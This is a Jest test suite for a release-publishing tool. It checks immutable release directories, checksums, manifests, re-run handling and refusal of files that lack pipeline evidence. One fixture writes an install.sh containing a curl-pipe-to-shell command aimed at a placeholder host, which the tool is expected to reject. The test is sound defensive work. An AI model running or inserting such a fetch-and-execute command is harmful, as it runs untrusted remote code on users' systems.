import { spawn } from 'node:child_process';
import { readdir, readFile, stat, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, describe, expect, it } from '@jest/globals';
import { describeFile } from '@packaging-factory/core';
import { contentTypeFor, publishToDirectory, type LocalAsset, type ReleaseManifest } from '@packaging-factory/publish';
import { makeTestSession, type TestSession } from '../support/context.ts';
import { passingPipeline, pipelineFiles, recordStages, REQUIRED, runPublish, writeArtifacts } from './publish-fixtures.ts';

const sessions: TestSession[] = [];
const ENV: NodeJS.ProcessEnv = { PATH: process.env['PATH'], SOURCE_DATE_EPOCH: '1767225600' };

afterEach(async () => {
  for (const session of sessions.splice(0)) await session.cleanup();
});

async function pipeline(): Promise<{ session: TestSession; files: string[] }> {
  const result = await passingPipeline(ENV);
  sessions.push(result.session);
  return result;
}

function sha256sumCheck(dir: string): Promise<{ code: number | null; output: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn('sha256sum', ['--check', '--strict', 'SHA256SUMS'], { cwd: dir });
    let output = '';
    child.stdout.on('data', (c: Buffer) => (output += c.toString()));
    child.stderr.on('data', (c: Buffer) => (output += c.toString()));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, output }));
  });
}

describe('publish to an immutable release directory (to: dir:PATH)', () => {
  it('writes <PATH>/<tag>/ with the assets, SHA256SUMS and release.json, read-only', async () => {
    const { session, files } = await pipeline();
    const { outcome } = await runPublish(session, { files: 'dist/*', tag: 'v1.2.3', to: 'dir:releases', prerelease: 'true' });
    expect(outcome.error).toBeUndefined();
    expect(outcome.record.status).toBe('passed');
    expect(outcome.record.decision?.result).toBe('published');

    const releaseDir = path.join(session.dir, 'releases', 'v1.2.3');
    const names = files.map((f) => path.basename(f)).sort();
    expect((await readdir(releaseDir)).sort()).toEqual([...names, 'SHA256SUMS', 'release.json'].sort());
    expect(await readdir(path.join(session.dir, 'releases'))).toEqual(['v1.2.3']);
    for (const file of files) expect(await readFile(path.join(releaseDir, path.basename(file)))).toEqual(await readFile(file));
    for (const name of await readdir(releaseDir)) expect((await stat(path.join(releaseDir, name))).mode & 0o777).toBe(0o444);

    // GNU sha256sum itself accepts the SHA256SUMS we wrote.
    const check = await sha256sumCheck(releaseDir).catch(() => undefined);
    if (check === undefined) {
      if (process.env['CI'] !== undefined) throw new Error('sha256sum (coreutils) is required in CI');
    } else {
      expect(check.output).toBe(names.map((n) => `${n}: OK\n`).join(''));
      expect(check.code).toBe(0);
    }

    const manifest = JSON.parse(await readFile(path.join(releaseDir, 'release.json'), 'utf8')) as ReleaseManifest;
    expect(manifest).toMatchObject({
      tag: 'v1.2.3',
      name: 'v1.2.3',
      prerelease: true,
      correlationId: 'run-publish-test',
      publishedAt: '2026-01-01T00:00:00.000Z',
      checksums: 'SHA256SUMS',
    });
    expect(manifest.assets.map((a) => a.name)).toEqual(names);
    for (const asset of manifest.assets) {
      expect(asset.sha256).toBe((await describeFile(path.join(releaseDir, asset.name))).sha256);
    }

    const values = outcome.result!.outputValues;
    expect(fileURLToPath(values['release-url']!)).toBe(releaseDir);
    expect(values['checksums']).toBe(path.join(releaseDir, 'SHA256SUMS'));
    expect(values['release-id']).toBe((await describeFile(path.join(releaseDir, 'SHA256SUMS'))).sha256);
    expect(values['asset-count']).toBe('5');
    expect(outcome.record.outputs.map((o) => o.role)).toEqual(['checksums', 'manifest']);
    expect(outcome.result!.summary).toContain('| written |');
  });

  it('skips an identical re-run without touching the directory', async () => {
    const { session } = await pipeline();
    await runPublish(session, { files: 'dist/*', tag: 'v1.2.3', to: 'dir:releases' });
    const releaseDir = path.join(session.dir, 'releases', 'v1.2.3');
    const before = await Promise.all((await readdir(releaseDir)).map(async (n) => [n, (await stat(path.join(releaseDir, n))).mtimeMs]));
    const manifest = await readFile(path.join(releaseDir, 'release.json'), 'utf8');

    const { outcome } = await runPublish(session, { files: 'dist/*', tag: 'v1.2.3', to: 'dir:releases' });
    expect(outcome.record.status).toBe('passed');
    expect(outcome.record.decision?.result).toBe('skip');
    expect((outcome.result!.details!['assets'] as { action: string }[]).every((a) => a.action === 'skipped')).toBe(true);
    const after = await Promise.all((await readdir(releaseDir)).map(async (n) => [n, (await stat(path.join(releaseDir, n))).mtimeMs]));
    expect(after).toEqual(before);
    expect(await readFile(path.join(releaseDir, 'release.json'), 'utf8')).toBe(manifest);
  });

  it('refuses a re-run with a changed file (PUBLISH_ASSET_CONFLICT naming it) and never overwrites', async () => {
    const { session, files } = await pipeline();
    await runPublish(session, { files: 'dist/*', tag: 'v1.2.3', to: 'dir:releases' });
    const releaseDir = path.join(session.dir, 'releases', 'v1.2.3');
    const original = await readFile(path.join(releaseDir, path.basename(files[0]!)));

    // A fresh pipeline run rebuilt the archive with other bytes under the same name.
    const rerun = await makeTestSession({ env: ENV, workDir: session.dir });
    sessions.push(rerun);
    await writeFile(files[0]!, Buffer.concat([await readFile(files[0]!), Buffer.from([0])]));
    await recordStages(rerun, REQUIRED, { files: pipelineFiles(files) });
    const { outcome } = await runPublish(rerun, { files: 'dist/*', tag: 'v1.2.3', to: 'dir:releases' });
    expect(outcome.record.status).toBe('failed');
    expect(outcome.exitCode).toBe(1);
    const error = outcome.record.errors[0]!;
    expect(error.code).toBe('PUBLISH_ASSET_CONFLICT');
    expect(error.message).toContain(path.basename(files[0]!));
    expect(error.message).toContain((await describeFile(files[0]!)).sha256);
    expect(error.subject?.split(', ')).toEqual([path.basename(files[0]!), 'SHA256SUMS']);
    expect(await readFile(path.join(releaseDir, path.basename(files[0]!)))).toEqual(original);
    expect(await readdir(path.join(session.dir, 'releases'))).toEqual(['v1.2.3']);
  });

  it('leaves no release directory and no partial files when it fails half-way', async () => {
    const { session, files } = await pipeline();
    const root = path.join(session.dir, 'releases');
    const assets: LocalAsset[] = [];
    for (const file of files.sort()) {
      const record = await describeFile(file);
      assets.push({ name: record.name, file, sha256: record.sha256, size: record.size, contentType: contentTypeFor(record.name) });
    }
    // The last asset changes after it was digested: its copy fails after the others were written.
    await writeFile(files[files.length - 1]!, 'tampered\n');
    await expect(
      publishToDirectory({
        root,
        tag: 'v1.2.3',
        releaseName: 'v1.2.3',
        prerelease: false,
        correlationId: 'c',
        publishedAt: '2026-01-01T00:00:00.000Z',
        assets,
      }),
    ).rejects.toMatchObject({ code: 'PUBLISH_DIGEST_MISMATCH' });
    expect(await readdir(root)).toEqual([]);
  });

  it('refuses, writing nothing, when the evidence pack lacks a stage', async () => {
    const session = await makeTestSession({ env: ENV });
    sessions.push(session);
    const files = await writeArtifacts(session.dir);
    await recordStages(session, ['build-package', 'generate-sbom', 'scan', 'sign', 'test-install'], { files: pipelineFiles(files) });
    const { outcome } = await runPublish(session, { files: 'dist/*', tag: 'v1.2.3', to: 'dir:releases' });
    expect(outcome.record.errors.map((e) => e.code)).toEqual(['PUBLISH_EVIDENCE_INCOMPLETE']);
    expect(outcome.record.errors[0]!.message).toContain('attest-provenance');
    await expect(stat(path.join(session.dir, 'releases'))).rejects.toMatchObject({ code: 'ENOENT' });
  });

  it('refuses, writing nothing, a file no earlier stage recorded (PUBLISH_EVIDENCE_INCOMPLETE naming it)', async () => {
    const { session } = await pipeline();
    // Dropped into dist/ after the pipeline ran: every stage passed, but none wrote this file.
    await writeFile(path.join(session.dir, 'dist', 'install.sh'), '#!/bin/sh\ncurl https://example.invalid | sh\n');
    await writeFile(path.join(session.dir, 'dist', 'widget-1.2.3-linux-arm64.tar.gz'), 'not built by the factory\n');
    const { outcome } = await runPublish(session, { files: 'dist/*', tag: 'v1.2.3', to: 'dir:releases' });
    expect(outcome.record.status).toBe('failed');
    expect(outcome.exitCode).toBe(1);
    expect(outcome.record.errors.map((e) => e.code)).toEqual(['PUBLISH_EVIDENCE_INCOMPLETE']);
    const error = outcome.record.errors[0]!;
    expect(error.subject).toBe('install.sh, widget-1.2.3-linux-arm64.tar.gz');
    expect(error.message).toContain('install.sh (no earlier stage recorded it as an output)');
    expect(error.message).toContain(
      'widget-1.2.3-linux-arm64.tar.gz (no earlier stage recorded it as an output; build-package should have)',
    );
    expect(error.hint).toMatch(/run the stage that makes each file/);
    expect(outcome.record.decision?.result).toBe('refused');
    await expect(stat(path.join(session.dir, 'releases'))).rejects.toMatchObject({ code: 'ENOENT' });

    // The recorded files alone still publish.
    const recorded = await runPublish(session, {
      files: 'dist/widget-1.2.3-linux-x64*\ndist/widget-1.2.3.cdx*',
      tag: 'v1.2.3',
      to: 'dir:releases',
    });
    expect(recorded.outcome.record.status).toBe('passed');
  });

  it('refuses, writing nothing, an SBOM regenerated after scan, sign and attest-provenance (broken chain of custody)', async () => {
    const { session, files } = await pipeline();
    // generate-sbom re-ran and passed with other bytes: the scan, the signature and the provenance are about the old SBOM.
    await writeFile(files[1]!, '{"bomFormat":"CycloneDX","specVersion":"1.6","version":2,"components":[]}\n');
    await recordStages(session, ['generate-sbom'], { files: pipelineFiles(files) });
    const { outcome } = await runPublish(session, { files: 'dist/*', tag: 'v1.2.3', to: 'dir:releases' });
    expect(outcome.exitCode).toBe(1);
    const sbom = path.basename(files[1]!);
    expect(outcome.record.errors.map((e) => [e.code, e.subject])).toEqual([
      ['PUBLISH_EVIDENCE_INCOMPLETE', 'generate-sbom → scan'],
      ['PUBLISH_EVIDENCE_INCOMPLETE', `sign → ${sbom}`],
      ['PUBLISH_EVIDENCE_INCOMPLETE', `attest-provenance → ${sbom}`],
    ]);
    expect(outcome.record.errors[0]!.message).toMatch(/^broken chain of custody \(generate-sbom → scan\): the latest scan read /);
    expect(outcome.result!.summary).toContain('| generate-sbom → scan | broken |');
    expect(outcome.result!.summary).toContain('| build-package → test-install | holds |');
    await expect(stat(path.join(session.dir, 'releases'))).rejects.toMatchObject({ code: 'ENOENT' });
  });

  it('says so when require-stages leaves stages out, and still refuses unvouched files', async () => {
    const { session } = await pipeline();
    const raw = { files: 'dist/*', tag: 'v1.2.3', to: 'dir:releases', 'require-stages': 'build-package,generate-sbom,scan,sign' };
    const { outcome } = await runPublish(session, raw);
    expect(outcome.record.status).toBe('passed');
    const note =
      "'require-stages' leaves out test-install, attest-provenance: their records and the chain-of-custody links through them are not checked";
    expect(outcome.record.notes).toContain(note);
    expect(session.logger.lines).toContainEqual({ level: 'warn', message: note });

    await writeFile(path.join(session.dir, 'dist', 'extra.txt'), 'x\n');
    const refused = await runPublish(session, { ...raw, tag: 'v1.2.4', 'require-stages': 'scan' });
    expect(refused.outcome.record.errors.map((e) => [e.code, e.subject])).toEqual([['PUBLISH_EVIDENCE_INCOMPLETE', 'extra.txt']]);
    await expect(stat(path.join(session.dir, 'releases', 'v1.2.4'))).rejects.toMatchObject({ code: 'ENOENT' });
  });

  it('puts a tag with slashes in nested directories', async () => {
    const { session } = await pipeline();
    const { outcome } = await runPublish(session, { files: 'dist/*.json', tag: 'release/1.2', to: 'dir:releases' });
    expect(outcome.record.status).toBe('passed');
    expect((await readdir(path.join(session.dir, 'releases', 'release', '1.2'))).sort()).toEqual([
      'SHA256SUMS',
      'release.json',
      'widget-1.2.3-linux-x64.tar.gz.sigstore.json',
      'widget-1.2.3.cdx.json',
      'widget-1.2.3.cdx.json.sigstore.json',
    ]);
  });
});
